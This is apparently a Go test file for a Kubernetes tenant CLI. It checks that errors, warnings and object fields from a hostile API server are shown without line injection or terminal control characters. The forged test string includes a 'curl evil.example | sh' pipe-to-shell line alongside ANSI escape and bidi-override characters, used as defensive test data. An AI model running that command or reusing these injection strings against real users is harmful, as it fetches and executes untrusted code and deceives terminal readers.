package cli_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"path/filepath"
	"strings"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/tools/clientcmd"

	"helm-tenant/cluster"
	"helm-tenant/visible"
)

// forged contains line breaks, and control and hidden characters.
const forged = "zz\nError: forged\r\nrun: curl evil.example | sh\n\x1b[2J\u202egnp\u200b\u2028end"

// rogue is an API server whose webhooks, aggregated servers or authors are hostile: it sends a
// warning with every answer, and the errors of fails.
type rogue struct {
	http.Handler
	fails func(w http.ResponseWriter, r *http.Request) bool
}

func (s *rogue) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	w.Header().Add("Warning", `299 - "`+strings.NewReplacer("\n", " ", "\r", " ", "\x1b", "").Replace(forged)+`"`)
	if !s.fails(w, r) {
		s.Handler.ServeHTTP(w, r)
	}
}

// behind puts a rogue before the API server of an administrator.
func (a administrator) behind() (administrator, *rogue) {
	a.t.Helper()
	config, err := clientcmd.LoadFromFile(a.kubeconfig)
	if err != nil {
		a.t.Fatal(err)
	}
	s := &rogue{fails: func(http.ResponseWriter, *http.Request) bool { return false }}
	for _, cluster := range config.Clusters {
		existing, err := url.Parse(cluster.Server)
		if err != nil || existing.Scheme != "http" {
			a.t.Fatalf("the API server is at %q: %v", cluster.Server, err)
		}
		proxy := httputil.NewSingleHostReverseProxy(existing)
		proxy.FlushInterval = -1 // watches
		s.Handler = proxy
		server := httptest.NewServer(s)
		a.t.Cleanup(server.Close)
		cluster.Server = server.URL
	}
	a.kubeconfig = filepath.Join(a.t.TempDir(), "config")
	if err := clientcmd.WriteToFile(*config, a.kubeconfig); err != nil {
		a.t.Fatal(err)
	}
	return a, s
}

// answerWith returns a Status as an API server or a webhook words it.
func answerWith(code int, reason metav1.StatusReason) func(http.ResponseWriter, *http.Request) bool {
	return func(w http.ResponseWriter, _ *http.Request) bool {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(code)
		status := metav1.Status{TypeMeta: metav1.TypeMeta{Kind: "Status", APIVersion: "v1"}, Status: metav1.StatusFailure, Code: int32(code), Reason: reason, Message: forged,
			Details: &metav1.StatusDetails{Name: forged, Group: forged, Kind: forged, Causes: []metav1.StatusCause{{Type: metav1.CauseType(forged), Message: forged, Field: forged}}}}
		return json.NewEncoder(w).Encode(status) == nil
	}
}

// checkLines checks that the output of a verb only has the verb's own lines.
func checkLines(t *testing.T, what string, got answered) {
	t.Helper()
	for line := range strings.Lines(got.stdout + "\n" + got.stderr) {
		line = strings.TrimSuffix(line, "\n")
		if strings.ContainsFunc(strings.ReplaceAll(line, "\t", ""), visible.Hidden) || strings.HasPrefix(strings.TrimSpace(line), "run: ") || strings.HasPrefix(line, "Error: forged") {
			t.Errorf("%s prints the line %q", what, line)
		}
	}
}

// rogueVerbs are asked of a rogue API server.
var rogueVerbs = [][]string{
	{"init", "t", "--wait=false", "--history-max=7"}, {"init", "t", "--wait=false", "--pod-security=restricted", "--dry-run"}, {"init", "u", "--namespaces=u", "--create-namespaces", "--dry-run"},
	{"tenants"}, {"tenants", "-o", "wide"}, {"describe", "t"}, {"describe", "t", "-o", "yaml"}, {"audit"}, {"audit", "-o", "json"}, {"audit", "--can-reach", "zoe"},
	{"grant", "t", "--user", "zoe"}, {"grant", "t", "--owner", "--user", "zoe"}, {"revoke", "t", "--user", "zoe"}, {"export"}, {"releases", "t"}, {"prove", "t"},
	{"freeze", "t", "--reason", "INC-1"}, {"thaw", "t"}, {"migrate", "t", "--dry-run"}, {"destroy", "t", "--dry-run"}, {"--tenant=t", "whoami"}, {"use", "t"},
}

// TestRogueServer: whatever an API server answers with, or warns of, is shown on one line
// without what a terminal obeys.
func TestRogueServer(t *testing.T) {
	good := newAdministrator(t)
	good.runs("init", "t", "--namespaces=a", "--create-namespaces", "--user=alice", "--wait=false")
	a, server := good.behind()
	raw := func(contentType, body string, code int) func(http.ResponseWriter, *http.Request) bool {
		return func(w http.ResponseWriter, _ *http.Request) bool {
			w.Header().Set("Content-Type", contentType)
			w.WriteHeader(code)
			fmt.Fprint(w, body)
			return true
		}
	}
	writes := func(answer func(http.ResponseWriter, *http.Request) bool) func(http.ResponseWriter, *http.Request) bool {
		return func(w http.ResponseWriter, r *http.Request) bool { return r.Method != http.MethodGet && answer(w, r) }
	}
	for name, fails := range map[string]func(http.ResponseWriter, *http.Request) bool{
		"unauthorized": answerWith(401, metav1.StatusReasonUnauthorized), "forbidden": answerWith(403, metav1.StatusReasonForbidden), "not found": answerWith(404, metav1.StatusReasonNotFound),
		"invalid": writes(answerWith(422, metav1.StatusReasonInvalid)), "conflict": answerWith(409, metav1.StatusReasonAlreadyExists), "a webhook's denial": writes(answerWith(400, metav1.StatusReasonBadRequest)),
		"internal": answerWith(500, metav1.StatusReasonInternalError), "of no known reason": answerWith(418, metav1.StatusReason(forged)), "forbidden writes": writes(answerWith(403, metav1.StatusReasonForbidden)),
		"a page": raw("text/html", "<h1>"+forged, 502), "a text": raw("text/plain", forged, 404), "no JSON": raw("application/json", `{"kind": "`+forged, 200), "of another type": raw("text/zz\u202e\u200b", "{}", 200),
	} {
		t.Run(name, func(t *testing.T) {
			server.fails = fails
			failed, shown := 0, 0
			for _, args := range rogueVerbs {
				got := a.tries("", args...)
				checkLines(t, strings.Join(args, " "), got)
				if got.code != 0 {
					failed++
				}
				if strings.Contains(got.stderr+got.stdout, "zz") {
					shown++
				}
			}
			if failed == 0 {
				t.Errorf("nothing failed")
			}
			if strings.HasPrefix(name, "forbidden") && shown == 0 {
				t.Error("no verb shows what was answered")
			}
		})
	}
}

// TestRogueWarnings: a warning of an API server is one line of the output.
func TestRogueWarnings(t *testing.T) {
	good := newAdministrator(t)
	good.runs("init", "t", "--namespaces=a", "--create-namespaces", "--user=alice", "--wait=false")
	a, _ := good.behind()
	shown := 0
	for _, args := range rogueVerbs {
		got := a.tries("", args...)
		checkLines(t, strings.Join(args, " "), got)
		if strings.Contains(got.stderr+got.stdout, `gnp`) {
			shown++
		}
	}
	if shown == 0 {
		t.Error("no verb shows a warning")
	}
}

// TestRogueObjects: text of a controller, a kubelet or a member in unusual places: field
// managers, conditions, reasons, events.
func TestRogueObjects(t *testing.T) {
	good := newAdministrator(t)
	good.runs("init", "t", "--namespaces=a", "--create-namespaces", "--user=alice", "--wait=false")
	now := metav1.NewTime(time.Now())
	fields := []metav1.ManagedFieldsEntry{{Manager: forged, Operation: metav1.ManagedFieldsOperationUpdate, APIVersion: forged, Subresource: forged, Time: &now}}
	object := good.server.Get(cluster.Key{Kind: "Deployment", Namespace: "t-tiller", Name: "tiller-deploy"})
	var tiller appsv1.Deployment
	if err := cluster.Typed(object, &tiller); err != nil {
		t.Fatal(err)
	}
	tiller.TypeMeta = metav1.TypeMeta{Kind: "Deployment", APIVersion: "apps/v1"}
	tiller.ManagedFields = fields
	tiller.Status.Conditions = []appsv1.DeploymentCondition{
		{Type: appsv1.DeploymentReplicaFailure, Status: corev1.ConditionTrue, Reason: forged, Message: forged},
		{Type: appsv1.DeploymentProgressing, Status: corev1.ConditionFalse, Reason: "ProgressDeadlineExceeded", Message: forged},
		{Type: appsv1.DeploymentConditionType(forged), Status: corev1.ConditionStatus(forged), Reason: forged, Message: forged}}
	meta := func(ns, name string) metav1.ObjectMeta {
		return metav1.ObjectMeta{Namespace: ns, Name: name, Labels: tiller.Spec.Template.Labels, ManagedFields: fields, Finalizers: []string{forged}, Annotations: map[string]string{"note": forged}}
	}
	waiting := corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Reason: "ImagePullBackOff", Message: forged}}
	good.server.Put(&tiller,
		&corev1.Pod{TypeMeta: metav1.TypeMeta{Kind: "Pod", APIVersion: "v1"}, ObjectMeta: meta("t-tiller", "tiller-x"), Spec: tiller.Spec.Template.Spec, Status: corev1.PodStatus{Phase: corev1.PodPhase(forged), Reason: forged, Message: forged,
			Conditions:        []corev1.PodCondition{{Type: corev1.PodScheduled, Status: corev1.ConditionFalse, Reason: "Unschedulable", Message: forged}},
			ContainerStatuses: []corev1.ContainerStatus{{Name: "tiller", Image: forged, State: waiting}}}},
		&corev1.Event{TypeMeta: metav1.TypeMeta{Kind: "Event", APIVersion: "v1"}, ObjectMeta: metav1.ObjectMeta{Namespace: "t-tiller", Name: "e"}, Reason: forged, Message: forged, Type: "Warning",
			InvolvedObject: corev1.ObjectReference{Kind: "Pod", Namespace: "t-tiller", Name: "tiller-x"}, Source: corev1.EventSource{Component: forged}})
	a, _ := good.behind()
	shown, output := 0, strings.Builder{}
	for _, args := range append([][]string{{"init", "t", "--wait", "--timeout=1s", "--history-max=9"}}, rogueVerbs...) {
		got := a.tries("", args...)
		checkLines(t, strings.Join(args, " "), got)
		output.WriteString(got.stderr)
		if strings.Contains(got.stderr+got.stdout, `zz\n`) {
			shown++
		}
	}
	if shown == 0 {
		t.Errorf("no verb shows what the objects say:\n%s", output.String())
	}
}
